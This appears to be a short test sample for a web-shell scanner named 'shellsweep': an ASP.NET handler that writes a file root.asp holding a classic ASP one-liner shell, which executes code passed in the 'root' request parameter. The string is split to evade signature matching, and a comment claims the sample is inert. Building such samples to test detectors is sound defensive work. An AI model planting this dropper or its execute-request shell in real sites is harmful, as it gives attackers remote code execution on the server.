<%@ WebHandler Language="C#" Class="H" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
public class H : System.Web.IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(System.Web.HttpContext context) {
    System.IO.StreamWriter w = System.IO.File.CreateText(context.Server.MapPath("root.asp"));
    w.Write("<" + "%response.clear:execute request(\"root\")%" + ">"); w.Close();
  }
}
